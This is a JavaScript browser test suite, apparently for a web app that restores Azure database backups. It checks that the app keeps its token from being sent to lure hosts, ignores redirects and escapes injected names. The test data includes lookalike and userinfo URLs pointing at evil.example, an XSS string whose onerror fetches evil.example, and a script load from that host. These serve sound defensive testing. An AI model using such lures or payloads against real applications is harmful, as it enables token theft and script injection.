// An Azure that lies: no request follows it elsewhere, and the page says so in plain words.
import assert from "node:assert/strict";
import { BROWSER, toldByChromium } from "./browser.mjs";
import { asked, useAzure } from "./harness.mjs";
import { check, on, POINTS, press, ready, running, says, signIn, start, walkToReview } from "./person.mjs";

// Where nothing may go. The harness fails a visit for any request that leaves for elsewhere.
const LURES = {
  "another site": "https://management.azure.com.evil.example/subscriptions/x",
  "a site in user info": "https://management.azure.com@evil.example/subscriptions/x",
  "a name that only ends alike": "https://evilmanagement.azure.com/subscriptions/x",
  "plain http": "http://management.azure.com/subscriptions/x",
  "another port": "https://management.azure.com:8443/subscriptions/x",
  "a backslash": "https://management.azure.com\\@evil.example/subscriptions/x",
};
const readable = { "access-control-expose-headers": "Azure-AsyncOperation, Location, Retry-After" };
const ofPost = (pattern, answer) => ({ method, path }) => (method === "POST" && pattern.test(path) ? answer : undefined);

const visit = useAzure();

visit("a check whose operation is said to be elsewhere is not followed there", async ({ page, azure }) => {
  await signIn(page);
  await walkToReview(page);
  for (const [what, lure] of Object.entries(LURES)) {
    azure.intercept = ofPost(/validateRestore/, { status: 202, headers: { ...readable, "azure-asyncoperation": lure, location: lure, "retry-after": "10" } });
    const before = asked(azure).length;
    await Promise.all([page.waitForResponse(/validateRestore/), press(page, /^Check (with Azure|again)$/)]);
    await says(page, "The answer leads away from Azure");
    await says(page, "your token was not sent there");
    assert.equal(asked(azure).length, before + 1, what);
  }
});

visit("a start whose operation leads away finds its job in the vault instead", async ({ page, azure, pass }) => {
  await signIn(page);
  await walkToReview(page);
  await check(page, pass);
  azure.alter = (answer, { method, path }) => {
    if (method === "POST" && /\/restore\?/.test(path)) Object.assign(answer.headers, { "azure-asyncoperation": LURES["another site"], location: LURES["plain http"] });
  };
  await press(page, "Start restore");
  await says(page, "Looked through the vault’s jobs once. Asks again");
  await pass(60);
  await says(page, "Azure Backup is writing the files");
  assert.equal(asked(azure, /^POST .*\/restore\?/).length, 1);
});

visit("a list of jobs whose next page is elsewhere holds a start back: nobody knows what runs", { at: POINTS }, async ({ page, azure, pass }) => {
  await ready(page, pass);
  azure.alter = (answer, { path }) => {
    if (/\/backupJobs\?/.test(path)) answer.body = JSON.stringify({ ...JSON.parse(answer.body), nextLink: LURES["another site"] });
  };
  await press(page, "Start restore");
  await says(page, "It is not known whether this point is already being restored");
  await says(page, "The answer leads away from Azure");
  assert.equal(asked(azure, /^POST .*\/restore\?/).length, 0);
});

visit("an operation that names a job elsewhere: the job is looked for in the vault", { at: POINTS }, async ({ page, azure, pass }) => {
  await ready(page, pass);
  const looked = asked(azure, /\/backupJobs\?/).length;
  let lured = 0;
  azure.alter = (answer, { path }) => {
    if (!/operationStatus/i.test(path) || !/"jobId"/.test(answer.body)) return;
    lured += 1;
    const body = JSON.parse(answer.body);
    for (const part of [body, body.properties ?? {}]) if (part.jobId) part.jobId = `https://evil.example${part.jobId}`;
    answer.body = JSON.stringify(body);
  };
  await press(page, "Start restore");
  await says(page, "It is creating a job for it");
  await pass(30);
  await says(page, "Azure Backup is writing the files");
  assert.equal(lured, 1);
  assert(asked(azure, /\/backupJobs\?/).length >= looked + 2, "once before the start, and once for the job");
  assert.equal(asked(azure, /^POST .*\/restore\?/).length, 1);
});

visit("an operation of another subscription is not followed", async ({ page, azure }) => {
  await signIn(page);
  await walkToReview(page);
  const other = "https://management.azure.com/subscriptions/00000000-0000-4000-8000-00000000dead/providers/Microsoft.DataProtection/locations/westeurope/operationStatus/x?api-version=2024-04-01";
  azure.intercept = ofPost(/validateRestore/, { status: 202, headers: { ...readable, "azure-asyncoperation": other, "retry-after": "10" } });
  await press(page, "Check with Azure");
  await says(page, "The answer leads away from Azure");
});

visit("a next page elsewhere is not read; what has come is shown", { at: "#/find?v=1&vault=6f2d9a41-5c0e-4b7a-9f63-2d1e8c7b4a05/rg-backup-prod/bvault-prod-weu" }, async ({ page, azure }) => {
  azure.alter = (answer, { path }) => {
    if (/\/backupInstances\?/.test(path)) answer.body = JSON.stringify({ ...JSON.parse(answer.body), nextLink: LURES["another site"] });
  };
  await signIn(page);
  await says(page, "The answer leads away from Azure");
  await says(page, "psql-orders-prod");
});

visit("a redirect is not followed, wherever it leads",
  { at: "#/find", expect: toldByChromium(/request: .*management\.azure\.com/, /console: /) },
  async ({ page, azure }) => {
    azure.intercept = ({ path }) => (/ResourceGraph/.test(path) ? { status: 307, headers: { location: `https://management.azure.com${path}&again=1` } } : undefined);
    await signIn(page);
    await says(page, "Azure did not answer");
    assert(!asked(azure).some(({ path }) => /again=1/.test(path)));
  });

visit("names from Azure are shown as text, whatever stands in them", { at: "#/find" }, async ({ page, azure }) => {
  const name = '<img src=x onerror="fetch(\'https://evil.example\')"><script>alert(1)</script>';
  azure.alter = (answer, { path }) => {
    if (!/ResourceGraph/.test(path)) return;
    const body = JSON.parse(answer.body);
    body.data[0].name = name;
    body.data[1].subscription = "Contoso \u202eslairT";
    answer.body = JSON.stringify(body);
  };
  await signIn(page);
  await says(page, name);
  assert.equal(await page.locator("main img, main script").count(), 0);
  assert.doesNotMatch(await page.locator("main").innerText(), /\u202e/, "a letter that turns the text around is shown as it came");
});

visit("an answer that is a page instead of JSON says that it is not Azure’s", { at: "#/find" }, async ({ page, azure }) => {
  azure.intercept = ({ path }) => (/ResourceGraph|^\/subscriptions\?/.test(path) ? { status: 200, headers: { "content-type": "text/html" }, body: "<!doctype html><title>Log in to the guest network</title>" } : undefined);
  await signIn(page);
  await says(page, "The answer does not look like one from Azure");
});

visit("no script can be made from text in this page", { expect: [/policy: require-trusted-types-for blocked/, /policy: trusted-types blocked/], allow: [/console: /] }, async ({ page }) => {
  // Once the program stands, the start has made its policy.
  await page.waitForFunction(() => document.body && !document.getElementById("starting"));
  const refused = await page.evaluate(() => {
    const attempts = {
      innerHTML: () => { document.createElement("div").innerHTML = "<b>x</b>"; },
      script: () => { document.createElement("script").src = "https://evil.example/x.js"; },
      policy: () => { trustedTypes.createPolicy("another", {}); },
      again: () => { trustedTypes.createPolicy("pgflex-boot", {}); },
    };
    return Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => {
      try { attempt(); return [name, "allowed"]; } catch (error) { return [name, error.name]; }
    }));
  });
  assert.deepEqual(refused, { innerHTML: "TypeError", script: "TypeError", policy: "TypeError", again: "TypeError" });
});

visit("nothing secret is kept after a whole restore, nor stands in its addresses", async ({ page, pass, context }) => {
  await running(page, pass);
  await pass(900);
  await on(page, "The files of psql-orders-demo are in the container");
  const ours = await page.evaluate(() => [localStorage, sessionStorage].flatMap((area) => Object.keys(area)).filter((key) => key.startsWith("pgflex.")));
  assert.deepEqual(ours.filter((key) => key !== "pgflex.draft" && !key.startsWith("pgflex.journal.")), []);
  assert.deepEqual(await context.cookies(), []);
  assert.deepEqual((await context.storageState()).origins.flatMap(({ localStorage }) => localStorage.map(({ name }) => name)).filter((name) => /token/i.test(name)), []);
});

visit("the page cannot be framed", { at: "#/about", expect: [/policy: frame-src blocked/], allow: [/console: /, /request: /] }, async ({ page, host }) => {
  await on(page, "About this host");
  await page.evaluate(([address, firefox]) => new Promise((done) => {
    const frame = document.createElement("iframe");
    // Firefox puts nothing into a frame that the policy forbids, not even an error.
    if (firefox) document.addEventListener("securitypolicyviolation", done);
    else frame.onload = done;
    frame.src = address;
    document.body.append(frame);
  }), [host.address, BROWSER === "firefox"]);
  assert.equal(await page.frames()[1].locator("main").count(), 0);
});
